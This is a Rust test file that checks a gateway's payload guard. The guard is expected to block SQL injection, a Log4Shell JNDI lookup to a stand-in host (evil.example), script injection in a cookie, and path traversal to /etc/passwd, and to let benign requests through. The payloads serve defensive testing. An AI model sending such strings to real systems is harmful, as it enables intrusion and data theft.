use crate::support::*;

#[test]
fn attacks_are_refused_wherever_they_stand_and_never_repeated_to_the_caller() {
    let gateway = with(&["{ id: guard, kind: payload_guard }"]);
    let send = |url: &str, headers: &[(&str, &str)], body: Option<&str>| {
        let mut request = call("POST", url, headers);
        request.body = body.map(str::to_owned);
        trace(&gateway, &request)
    };
    let (json, form) = (
        ("Content-Type", "application/json"),
        ("Content-Type", "application/x-www-form-urlencoded"),
    );
    let sql = "x' OR 1=1 --";
    for found in [
        send("/orders?name=x%27%20OR%201%3D1%20--", &[], None),
        send(
            "/orders",
            &[("User-Agent", "${jndi:ldap://evil.example/a}")],
            None,
        ),
        send(
            "/orders",
            &[("Cookie", "a=<script>alert(1)</script>")],
            None,
        ),
        send("/orders", &[form], Some("note=..%2f..%2f..%2fetc%2fpasswd")),
        send("/orders", &[json], Some(&format!("{{\"note\":\"{sql}\"}}"))),
        send(
            "/orders",
            &[("Content-Type", "text/plain")],
            Some(&format!("{{\"note\":\"{sql}\"}}")),
        ),
    ] {
        assert_eq!(
            (found.status, code(&found)),
            (Some(403), "payload_guard.attack")
        );
        assert!(!found.detail.unwrap().contains("1=1"));
    }
    assert_eq!(
        code(&send("/orders", &[json], Some("{not json"))),
        "payload_guard.unreadable"
    );
    let plain = send(
        "/orders?name=O%27Brien&q=select+a+seat",
        &[json],
        Some("{\"note\":\"drop by at 5 -- thanks\"}"),
    );
    assert_eq!(plain.decision, "forward");
    let narrow = with(&["{ id: guard, kind: payload_guard, classes: [log4shell] }"]);
    assert_eq!(
        trace(
            &narrow,
            &call("GET", "/orders?name=x%27%20OR%201%3D1%20--", &[])
        )
        .decision,
        "forward"
    );
    assert!(
        messages(&with(&[
            "{ id: guard, kind: payload_guard, classes: [sqli] }"
        ]))
        .contains("sql_injection")
    );
}
